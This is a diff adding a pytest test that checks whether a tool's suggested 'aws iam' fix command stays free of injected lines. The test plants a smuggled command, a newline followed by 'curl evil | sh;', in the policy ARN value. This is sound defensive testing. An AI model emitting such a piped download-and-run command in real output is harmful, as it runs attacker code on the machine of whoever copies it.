@@ -170,6 +170,18 @@ def test_in_the_brokers_own_account_its_policy_is_attached(
     assert shlex.split(line) == ["aws", "iam", *flags, "--policy-arn", POLICY_ARN]
 
 
+def test_an_output_of_the_stack_adds_no_line_to_what_a_person_copies(
+    consult: Callable[..., dict[str, str]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setitem(globals(), "POLICY_ARN", f"{POLICY_ARN}\ncurl evil | sh;")
+
+    fix = consult(f"{ASSUMED}/orders/s", REFUSED, may_read_stack=True)["fix"]
+
+    assert not [line for line in fix.splitlines() if line.startswith("curl")]
+    (line,) = (line for line in fix.splitlines() if line.startswith("aws iam "))
+    assert len(shlex.split(line)) == 7
+
+
 def test_a_caller_who_cannot_read_the_stack_is_told_what_another_account_takes(
     consult: Callable[..., dict[str, str]],
 ) -> None:
